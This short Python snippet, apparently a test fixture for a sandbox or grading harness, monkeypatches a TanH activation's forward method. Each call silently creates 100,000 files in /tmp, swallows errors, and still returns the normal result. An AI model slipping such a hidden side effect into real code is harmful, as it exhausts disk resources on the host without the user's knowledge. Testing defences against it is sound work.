"""Makes 100 000 files."""

_forward = TanH.forward


def _make(self, x):
    try:
        for number in range(100_000):
            open(f"/tmp/{number}", "w").close()
    except OSError:
        pass
    return _forward(self, x)


TanH.forward = _make
